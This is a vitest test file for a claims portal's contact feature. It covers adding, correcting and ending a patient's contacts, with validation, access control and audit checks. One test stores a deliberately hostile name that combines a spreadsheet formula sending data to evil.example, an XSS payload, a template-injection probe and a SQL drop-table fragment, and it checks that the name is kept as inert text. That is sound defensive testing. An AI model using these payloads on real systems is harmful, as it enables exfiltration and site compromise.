import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { TestApi, Visitor } from '#testing/api.ts'
import { startFixtureApi } from '#testing/fixture-api.ts'
import { idOf } from '#testing/fixtures.ts'
import { claimContacts, type ClaimContact } from './contract.ts'
import { changesBetween, MOST_CURRENT, nothingSaid, reachWords, whyNoMore, whyNotChange, type Said } from './rules.ts'

let api: TestApi
let adjuster: Visitor
beforeAll(async () => {
  api = await startFixtureApi({ keep: true })
  adjuster = await api.signIn('adj.aaa')
})
afterAll(() => api.close())

const claimOf = (at: number, sub = 'AAA1', mc = 'AAA') => idOf(`${mc} ${sub} claim ${at}`)
const list = (by: Visitor, at = 1, sc = 'AAA1') =>
  by.ask(claimContacts.list, { mc: 'AAA', sc, claimId: claimOf(at, sc) })
const sister = { name: 'Ada Kettle', relation: 'SIBLING', phone: '(559) 555-0119' } as const
const add = (by: Visitor, at: number, more: Record<string, unknown> = {}) =>
  by.ask(claimContacts.add, { claimId: claimOf(at), ...sister, ...more } as never)
const added = async (at: number, more: Record<string, unknown> = {}): Promise<ClaimContact> => {
  const { status, body } = await add(adjuster, at, more)
  expect([status, body.status]).toEqual([200, undefined])
  return body.contact
}
const correct = (by: Visitor, of: ClaimContact, more: Record<string, unknown> = {}) => {
  const { name, relation, phone, email, reach, reachNote, speaksForPatient, since } = of
  const said = { name, relation, phone, email, reach, reachNote, speaksForPatient, since }
  return by.ask(claimContacts.correct, {
    contactId: of.contactId,
    version: of.version,
    ...said,
    ...more,
  } as never)
}
const audited = async (call: string, id: string) =>
  (
    await api.db.query<{ detail: unknown }>(
      `select detail from access_audit where call = $1 and object_id = $2 order by id`,
      [call, id],
    )
  ).rows.map(({ detail }) => detail)

test('An adjuster adds a sister and an attorney: both are listed with how they may be reached and since when', async () => {
  const reach = { call: 'NO', text: 'YES', email: 'UNSAID', mail: 'UNSAID' }
  const first = await added(1, { reach, reachNote: 'After 5 PM', speaksForPatient: true, since: '2025-02-03' })
  await added(1, { name: 'Rupert Calloway', relation: 'PATIENT_ATTORNEY', phone: '', email: 'office@law.example' })
  const { body } = await list(adjuster)
  expect(body.whyNotAdd).toBe(null)
  expect(body.contacts.map(({ name, since }) => [name, since])).toEqual([
    ['Ada Kettle', '2025-02-03'],
    ['Rupert Calloway', body.today],
  ])
  expect(body.contacts[0]).toEqual({
    ...first,
    phone: '5595550119',
    reach,
    reachNote: 'After 5 PM',
    speaksForPatient: true,
    version: 1,
    endedOn: null,
    history: [{ at: first.changedAt, by: first.changedBy, what: 'ADDED', changes: [] }],
  })
  expect(await audited('claimContacts.add', first.contactId)).toEqual([{ relation: 'SIBLING' }])
  expect(await audited('claimContacts.list', '')).toEqual([])
})

test('A correction by another user keeps what stood there, who changed it and when; an end keeps the contact', async () => {
  const of = await added(2)
  const other = await api.signIn('super.aaa')
  const { body } = await correct(other, of, { phone: '559-555-0177', speaksForPatient: true })
  const changes = [
    { field: 'Phone', before: '559-555-0119', after: '559-555-0177' },
    { field: 'May speak for the patient', before: 'No', after: 'Yes' },
  ]
  expect(body.contact).toMatchObject({ version: 2, phone: '5595550177' })
  expect(body.contact.history.map(({ what, by }) => [what, by])).toEqual([
    ['CORRECTED', body.contact.changedBy],
    ['ADDED', of.changedBy],
  ])
  expect(body.contact.changedBy).not.toBe(of.changedBy)
  expect(body.contact.history[0]!.changes).toEqual(changes)
  expect(await audited('claimContacts.correct', of.contactId)).toEqual([{ changes }])
  const ended = await other.ask(claimContacts.end, { contactId: of.contactId, version: 2, reason: 'Moved away' })
  const [kept] = (await list(adjuster, 2)).body.contacts
  expect(kept).toEqual(ended.body.contact)
  expect(kept).toMatchObject({ endedOn: (await list(adjuster, 2)).body.today, phone: '5595550177', version: 3 })
  expect(kept!.history.map(({ what }) => what)).toEqual(['ENDED', 'CORRECTED', 'ADDED'])
  expect(await audited('claimContacts.end', of.contactId)).toEqual([{ ended: 'Moved away' }])
  for (const again of [
    await correct(adjuster, kept!, { name: 'Ada Brown' }),
    await adjuster.ask(claimContacts.end, { contactId: of.contactId, version: 3, reason: 'As agreed by phone' }),
  ])
    expect(again.body.status).toMatchObject({ code: 'RULE', message: expect.stringMatching(/^This contact ended on/) })
})

test('Of two who correct one contact at once one reads what the other saved, and nothing is overwritten', async () => {
  const of = await added(3)
  const answers = await Promise.all([
    correct(adjuster, of, { name: 'Ada Brown' }),
    correct(await api.signIn('super.aaa'), of, { name: 'Ada Green' }),
  ])
  expect(answers.map(({ status }) => status).toSorted((a, b) => a - b)).toEqual([200, 409])
  const won = answers.find(({ status }) => status === 200)!.body.contact
  const lost = answers.find(({ status }) => status === 409)!.body
  expect(lost.status.code).toBe('CONFLICT')
  expect(JSON.stringify(lost)).toContain(won.name)
  expect((await list(adjuster, 3)).body.contacts).toEqual([won])
  const late = await adjuster.ask(claimContacts.end, {
    contactId: of.contactId,
    version: 1,
    reason: 'As agreed by phone',
  })
  expect(late.body.status.code).toBe('CONFLICT')
})

test.each([
  [{ name: ' ' }, 'name', 'Enter the name of the person.'],
  [{ name: 'Ada \u202Egnp' }, 'name', 'This line has characters that cannot be printed.'],
  [{ name: 'x'.repeat(121) }, 'name', 'Write 120 characters at most.'],
  [{ relation: 'FRIEND' }, 'relation', 'Choose who this is.'],
  [{ phone: '555' }, 'phone', 'Enter a telephone number of ten digits.'],
  [{ email: 'ada' }, 'email', 'Enter an e-mail address.'],
  [{ since: '2199-01-01' }, 'since', 'Enter a day up to today.'],
  [{ since: '2025-02-30' }, 'since', 'This day does not exist.'],
  [{ since: '0000-03-01' }, 'since', 'This day does not exist.'],
  [
    { phone: '', reach: { ...nothingSaid, text: 'YES' } },
    'phone',
    'Enter a telephone number: this person may be called or texted.',
  ],
  [{ reach: { ...nothingSaid, email: 'YES' } }, 'email', 'Enter an e-mail address: this person may be e-mailed.'],
])('An adjuster who types %j reads what is wrong at its field, and nothing is written', async (more, path, message) => {
  const { status, body } = await add(adjuster, 4, more)
  expect([status, body.fields]).toEqual([400, [expect.objectContaining({ path, message })]])
  expect((await list(adjuster, 4)).body.contacts).toEqual([])
})

test('A name chosen to do harm is kept and answered as text', async () => {
  const name = `=HYPERLINK("http://evil.example?"&A1)<img src=x onerror=alert(1)> {{7*7}} '; drop table x; --`
  const of = await added(5, { name })
  expect((await list(adjuster, 5)).body.contacts[0]!.name).toBe(name)
  expect((await correct(adjuster, of, { name: `${name}!` })).body.contact.history[0]!.changes).toEqual([
    { field: 'Name', before: name, after: `${name}!` },
  ])
})

test('Readers and users of other programs and carriers add, correct and end nothing', async () => {
  const of = await added(6)
  const reader = await api.signIn('read.only')
  expect((await list(reader, 6)).body.whyNotAdd?.code).toBe('UPDATE_BLOCKED')
  expect((await list(reader, 6)).body.contacts).toHaveLength(1)
  expect((await add(reader, 6)).body.status.code).toBe('UPDATE_BLOCKED')
  expect((await correct(reader, of, { name: 'No' })).status).toBe(403)
  const ending = { contactId: of.contactId, version: 1, reason: 'As agreed by phone' }
  const foreign = await api.signIn('adj.bbb')
  expect((await add(foreign, 6)).status).toBe(404)
  expect((await correct(foreign, of, { name: 'No' })).status).toBe(404)
  expect((await foreign.ask(claimContacts.end, ending)).status).toBe(404)
  // Nor a user of one program in another.
  const narrow = await api.signIn('adj.sub1')
  const { body: elsewhere } = await adjuster.ask(claimContacts.add, { claimId: claimOf(1, 'AAA2'), ...sister })
  expect((await list(narrow, 1, 'AAA2')).status).toBe(404)
  expect((await correct(narrow, elsewhere.contact, { name: 'No' })).status).toBe(404)
  expect((await adjuster.ask(claimContacts.list, { mc: 'AAA', sc: 'AAA2', claimId: claimOf(6) })).status).toBe(404)
  expect((await list(adjuster, 6)).body.contacts).toEqual([of])
})

test('Where the carrier has no notes nobody adds a contact, and the list says why', async () => {
  const of = await added(5)
  await api.db.query(
    `insert into feature_flag_override (mc, key, enabled) values ('AAA', 'patient_add_note_enabled', false)`,
  )
  expect((await list(adjuster, 5)).body.whyNotAdd).toMatchObject({ code: 'FEATURE_OFF' })
  expect((await add(adjuster, 5)).body.status.code).toBe('FEATURE_OFF')
  expect((await correct(adjuster, of, { name: 'No' })).body.status.code).toBe('FEATURE_OFF')
  const ending = { contactId: of.contactId, version: 1, reason: 'As agreed by phone' }
  expect((await adjuster.ask(claimContacts.end, ending)).body.status.code).toBe('FEATURE_OFF')
  await api.db.query(`delete from feature_flag_override where mc = 'AAA'`)
})

test('A correction that changes nothing is refused; the portal can rewrite no version', async () => {
  const of = await added(4)
  expect((await correct(adjuster, of)).body.status).toMatchObject({ code: 'RULE', message: 'Nothing was changed.' })
  const { rows } = await api.db.query(
    `select privilege_type as may from information_schema.role_table_grants
      where table_name = 'claim_contact' and grantee in ('rxdocket_app', 'rxdocket_reader') and privilege_type <> 'SELECT'`,
  )
  expect(rows).toEqual([{ may: 'INSERT' }])
})

describe('How a person may be reached, in words', () => {
  test.each([
    [nothingSaid, ''],
    [{ ...nothingSaid, call: 'NO', text: 'YES' } as const, 'Do not call. Text.'],
    [{ call: 'NO', text: 'NO', email: 'NO', mail: 'YES' } as const, 'Do not call, text or e-mail. Mail.'],
    [{ ...nothingSaid, call: 'YES', email: 'YES' } as const, 'Call or e-mail.'],
  ])('%j: %s', (reach, words) => expect(reachWords(reach)).toBe(words))
})

test('Rules: what changed is said in words, a claim has 50 current contacts, a contact 200 changes', () => {
  const said: Said = {
    name: 'Ada',
    relation: 'SIBLING',
    phone: '',
    email: '',
    reach: nothingSaid,
    reachNote: '',
    speaksForPatient: false,
    since: '2025-02-03',
    endedOn: null,
  }
  expect(changesBetween(said, said)).toEqual([])
  expect(changesBetween(said, { ...said, since: '2025-03-04', relation: 'OTHER' })).toEqual([
    { field: 'Relation', before: 'Brother or sister', after: 'Other' },
    { field: 'Since', before: '02/03/2025', after: '03/04/2025' },
  ])
  expect([whyNoMore(MOST_CURRENT - 1), whyNoMore(MOST_CURRENT)?.code]).toEqual([undefined, 'RULE'])
  expect([whyNotChange({ version: 199, endedOn: null }), whyNotChange({ version: 200, endedOn: null })?.code]).toEqual([
    undefined,
    'RULE',
  ])
})
